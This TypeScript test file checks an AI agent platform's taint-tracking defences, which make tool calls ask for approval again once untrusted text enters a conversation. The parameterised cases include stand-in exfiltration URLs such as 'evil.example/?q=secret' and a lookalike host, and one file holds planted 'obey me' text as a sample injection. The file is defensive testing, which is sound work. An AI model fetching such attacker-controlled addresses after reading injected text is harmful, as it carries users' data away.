import { expect, test } from 'vitest'
import { update } from '../../handlers/agents/agents.ts'
import { respond } from '../../handlers/chat/approvals.ts'
import { send } from '../../handlers/chat/stream.ts'
import { create as createHook } from '../../handlers/hooks/hooks.ts'
import { requireDefaultAgent } from '../../runtime/agents/agents.ts'
import { localContext } from '../../runtime/auth/local.ts'
import { StreamRequest } from '../../runtime/chat/schema.ts'
import { sendMessage } from '../../runtime/chat/send.ts'
import { call } from '../support/call.ts'
import { chat, onlyApproval, onlyConversation } from '../support/chat.ts'
import { testHost } from '../support/host.ts'
import { type Step, scriptedModels, text, toolCall } from '../support/models.ts'
import { workOff } from '../support/work.ts'

const write = toolCall('files', { action: 'write', path: 'note.txt', content: 'tea' })

test('with external text even a granted tool asks', async () => {
  const host = await testHost({ models: scriptedModels(write, text('Written.'), write, text('Written.')) })
  await call(send, host, { body: { message: 'Write a note' } })
  await workOff(host)
  const approval = await onlyApproval(host)
  const id = approval.conversation_id
  await call(respond, host, {
    params: { id },
    body: { approval_id: approval.id, approved: true, remember: true },
  })
  await workOff(host)
  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
  await call(send, host, { body: { message: 'Again', conversation_id: id } })
  await workOff(host)

  expect(await host.sql.read('SELECT status FROM approvals ORDER BY id')).toEqual([
    { status: 'approved' },
    { status: 'pending' },
  ])
})

test.each([
  ['an address that nobody typed asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
  ['the typed address does not', 'Read (https://news.example/a?b=1).', 'https://news.example/a?b=1', undefined],
  ['nor does a typed host', 'Read news.example please', 'https://news.example/', undefined],
  ['another query of it asks', 'Read news.example/a please', 'https://news.example/a?q=secret', 'pending'],
  ['another path of it asks', 'Read news.example please', 'https://news.example/secret', 'pending'],
  ['another subdomain asks', 'Read news.example please', 'https://secret.news.example/', 'pending'],
  ['a host that begins like it asks', 'Read news.example please', 'https://news.example.evil.test/', 'pending'],
])('after untrusted text a fetch could carry data away: %s', async (_, message, url, status) => {
  const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
  const host = await testHost({ models })
  await chat(host, { message })
  const { id } = await onlyConversation(host)
  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
  const response = await call(send, host, { body: { message: 'Go', conversation_id: id } })
  await workOff(host)
  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(status ? [{ status, risk: 'medium' }] : [])
  await response.body?.cancel()
})

test.each([
  ['that another program sent', { by_person: false }, false],
  ['that a hook changed', {}, true],
])('an address in a message %s was not typed by a person', async (_, options, hooked) => {
  const url = 'https://news.example/a'
  const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
  const host = await testHost({ models })
  if (hooked) {
    const expression = `$contains(data.input.message, 'Go') ? 'allow' : {'input': {'message': 'Read ${url}'}}`
    const action = { kind: 'decide', expression }
    const body = { name: 'Adds', events: ['message.received'], blocking: true, action }
    expect((await call(createHook, host, { body })).status).toBe(201)
  }
  const message = hooked ? 'Hello' : `Read ${url}`
  await sendMessage(localContext(host), StreamRequest.parse({ message }), options)
  await workOff(host)
  const { id } = await onlyConversation(host)
  await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
  await (await call(send, host, { body: { message: 'Go', conversation_id: id } })).body?.cancel()
  await workOff(host)
  expect(await host.sql.read('SELECT tool, status FROM approvals')).toEqual([{ tool: 'web_fetch', status: 'pending' }])
})

test('files written by a tainted conversation taint later readers', async () => {
  const models = scriptedModels()
  const host = await testHost({ models })
  const agent = await requireDefaultAgent(host)
  await call(update, host, { params: { id: agent.id }, body: { execution_mode: 'autonomous' } })
  const tainted = async (steps: Step[], before = false) => {
    models.add(text('Hm'), ...steps, text('Done'))
    const [start] = await chat(host, { message: 'Hello' })
    const id = start?.data.conversation_id ?? ''
    if (before) await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
    await chat(host, { message: 'Go', conversation_id: id })
    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [id])
    return rows[0]?.tainted === 1
  }
  const put = (path: string, content: string, more: object = {}) =>
    toolCall('files', { action: 'write', path, content, ...more })
  const read = (path: string) => toolCall('files', { action: 'read', path })
  const find = toolCall('files', { action: 'search', query: 'obey' })
  await tainted([put('notes/page.md', 'obey me')], true)
  expect(await tainted([put('own.md', 'mine'), read('own.md')])).toBe(false)
  expect(await tainted([read('./notes/page.md')])).toBe(true)
  expect(await tainted([find])).toBe(true)
  const replaced = put('notes/page.md', 'clean, obey', { overwrite: true })
  expect(await tainted([replaced, read('notes/page.md')])).toBe(false)
})
